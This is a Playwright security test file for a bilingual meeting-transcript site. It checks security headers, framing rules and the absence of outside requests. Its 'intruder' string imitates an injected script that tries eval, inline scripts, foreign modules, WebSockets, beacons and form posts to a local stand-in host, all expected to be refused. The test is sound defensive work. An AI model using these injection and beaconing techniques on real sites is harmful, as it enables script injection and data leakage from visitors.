import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { expect, test } from '@playwright/test'
import { by, language, ningbo, picture, speakerButton, themeBox } from './meeting.ts'

/** Another host, which hears of whatever gets out, and frames what `/around?` names. */
let elsewhere: Server
let address: string
const heard: string[] = []

test.beforeAll(async () => {
  elsewhere = createServer((request, response) => {
    const [path, framed] = request.url!.split('/around?')
    if (path) heard.push(path)
    response
      .writeHead(200, { 'access-control-allow-origin': '*', 'content-type': 'text/html' })
      .end(framed && `<iframe src="${decodeURIComponent(framed)}"></iframe>`)
  })
  await new Promise<void>((listening) => elsewhere.listen(0, '127.0.0.1', listening))
  address = `http://127.0.0.1:${(elsewhere.address() as AddressInfo).port}`
})
test.afterAll(() => new Promise((closed) => elsewhere.close(closed)))

/**
 * What a script would do that had got into the page. It is a file of this site, since code that a
 * test evaluates is not held to the policy.
 */
const intruder = (host: string) => `
  const what = {}
  const attempt = async (name, act) => {
    try { what[name] = await act() ?? 'done' } catch { what[name] = 'refused' }
  }
  const loads = (tag, key, address) => new Promise((done, fail) => {
    const element = document.createElement(tag)
    if (tag === 'link') element.rel = 'stylesheet'
    element.onload = done
    element.onerror = fail
    element[key] = address
    document.head.append(element)
  })
  const attempts = [
    attempt('eval', () => eval('1')),
    attempt('a function from text', () => new Function('return 1')()),
    attempt('markup from text', () => { document.createElement('p').innerHTML = '<b>x</b>' }),
    attempt('an inline script', () => {
      const script = document.createElement('script')
      script.textContent = 'window.ran = true'
      document.head.append(script)
    }),
    attempt('a script named by a string', () => loads('script', 'src', './icon.svg')),
    attempt('a worker named by a string', () => { new Worker('./icon.svg') }),
    attempt('a policy of its own', () => { trustedTypes.createPolicy('mine', {}) }),
    attempt('a foreign image', () => loads('img', 'src', '${host}/image')),
    attempt('a foreign style', () => loads('link', 'href', '${host}/style')),
    attempt('a foreign fetch', () => fetch('${host}/fetch', { mode: 'no-cors' })),
    attempt('a foreign module', () => import('${host}/module')),
    attempt('a foreign socket', () => new Promise((done, fail) => {
      const socket = new WebSocket('${host.replace('http', 'ws')}/socket')
      socket.onopen = done
      socket.onerror = fail
    })),
  ]
  navigator.sendBeacon('${host}/beacon')
  const form = document.createElement('form')
  form.action = '${host}/form'
  form.target = 'frame'
  const frame = document.createElement('iframe')
  frame.name = 'frame'
  frame.src = '${host}/frame'
  document.body.append(frame, form)
  form.submit()
  Promise.all(attempts).then(() => { window.what = what })
`

test('what gets into the page runs nothing and sends nothing', async ({ page }) => {
  await page.route('**/intruder.js', (route) =>
    route.fulfill({ contentType: 'text/javascript', body: intruder(address) }),
  )
  await page.route(/\/$/, async (route) => {
    const response = await route.fetch()
    const body = (await response.text()).replace(
      '</body>',
      '<script>window.ran = true</script><p onclick="window.ran = true" style="color: red">x</p>' +
        '<script src="./intruder.js"></script></body>',
    )
    await route.fulfill({ response, body })
  })
  await page.goto('/')
  const seen = await page.waitForFunction(() => (window as { what?: object }).what)
  const what = (await seen.jsonValue()) as Record<string, string>
  expect(Object.keys(what)).toHaveLength(12)
  expect(new Set(Object.values(what)), JSON.stringify(what)).toEqual(new Set(['refused']))
  const marked = page.locator('p[onclick]')
  await marked.click()
  await expect(marked).not.toHaveCSS('color', 'rgb(255, 0, 0)')
  expect(await page.evaluate(() => 'ran' in window)).toBe(false)
  expect(heard).toEqual([])
})

test.describe('with the service worker', () => {
  test.use({ serviceWorkers: 'allow' })

  test('a whole visit asks no other host for anything, and breaks no rule', async ({
    page,
    context,
    baseURL,
  }) => {
    const asked: string[] = []
    const complaints: string[] = []
    context.on('request', (request) => asked.push(request.url()))
    page.on('websocket', (socket) => asked.push(socket.url()))
    page.on('console', (line) => {
      if (line.type() === 'error' || line.type() === 'warning') complaints.push(line.text())
    })
    page.on('pageerror', (error) => complaints.push(error.message))
    await page.goto('/')
    const [first] = ningbo.speakers
    await speakerButton(page, first!.id).click()
    await expect(page.getByRole('article')).toHaveCount(by(first!.id).length)
    await page.getByRole('searchbox').fill('rencai')
    await expect(page.locator('mark').first()).toHaveText('人才', { timeout: 20_000 })
    await page.getByRole('searchbox').fill('')
    for (const view of ['矩阵', '问题与对策', '谁没谈', '原文']) {
      await page.getByRole('radio', { name: view }).check()
      await expect(picture(page)).toHaveCount(0)
    }
    await page.getByRole('radio', { name: '图', exact: true }).check()
    await themeBox(page, 'talent').check()
    await page.getByRole('button', { name: '导出' }).click()
    await expect(page.getByRole('menuitem').first()).toBeVisible()
    await page.keyboard.press('Escape')
    await language(page, 'English').check()
    await page.reload()
    await language(page, '双语 Both languages').check()
    await page.goBack()
    await expect(page.getByRole('article')).not.toHaveCount(0)
    expect(asked.length).toBeGreaterThan(20)
    expect(asked.filter((url) => new URL(url).origin !== new URL(baseURL!).origin)).toEqual([])
    expect(complaints).toEqual([])
  })
})

test('another site may frame what is asked for with ?embed, and nothing else', async ({
  page,
  baseURL,
}) => {
  const frame = (query: string) =>
    page.goto(`${address}/around?${encodeURIComponent(`${baseURL}${query}`)}`)
  await frame('?embed&lang=zh')
  const framed = page.frameLocator('iframe')
  await expect(framed.getByRole('heading', { name: ningbo.meeting.title.zh! })).toBeVisible()
  const refused = page.waitForEvent('console', (line) => line.text().includes('frame-ancestors'))
  await frame('?lang=zh')
  await refused
})

test('every file comes with the headers', async ({ request }) => {
  for (const path of ['', 'transcripts/ningbo.json', 'icon.svg']) {
    const headers = (await request.get(`/${path}`)).headers()
    expect(headers['x-content-type-options']).toBe('nosniff')
    expect(headers['referrer-policy']).toBe('no-referrer')
    expect(headers['content-security-policy']).toContain("frame-ancestors 'none'")
  }
})
